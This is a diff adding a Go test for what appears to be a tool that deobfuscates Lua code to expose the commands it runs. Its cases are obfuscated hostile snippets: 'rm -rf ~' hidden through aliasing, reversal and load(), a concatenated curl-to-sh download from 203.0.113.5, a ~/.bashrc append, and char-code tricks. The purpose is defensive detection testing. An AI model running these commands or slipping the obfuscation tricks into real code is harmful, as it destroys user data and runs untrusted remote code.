@@ -72,3 +72,23 @@ func TestArgumentListsAreCommandLines(t *testing.T) {
 		}
 	}
 }
+
+func TestLuaView(t *testing.T) {
+	cases := []struct{ name, code, want string }{
+		{"aliased", `local x = os.execute; x("rm -rf ~")`, `os.execute("rm -rf ~")`},
+		{"joined", `os.execute("cu" .. "rl -s http://203.0.113.5/i | " .. "sh")`, `os.execute("curl -s http://203.0.113.5/i | sh")`},
+		{"reversed", `io.popen(("~ fr- mr"):reverse())`, `io.popen("rm -rf ~")`},
+		{"char codes", `os.execute(string.char(105, 100))`, `os.execute("id")`},
+		{"home", `local f = io.open(os.getenv("HOME") .. "/.bashrc", "a")`, `io.open("~/.bashrc", "a")`},
+		{"loaded string", `load("os.execute('r'..'m -rf ~')")()`, `os.execute("rm -rf ~")`},
+		{"table of functions", `local o = os; local e = o["exe" .. "cute"]; e("id")`, `os.execute("id")`},
+	}
+	for _, c := range cases {
+		if got := For("lua5.4", c.code); !strings.Contains(got, c.want) {
+			t.Errorf("%s: view of %s\n  = %q\n  want it to hold %q", c.name, c.code, got, c.want)
+		}
+	}
+	if got := Lua(`print(1 + 2)`); got != "" {
+		t.Errorf("plain code has a view: %q", got)
+	}
+}
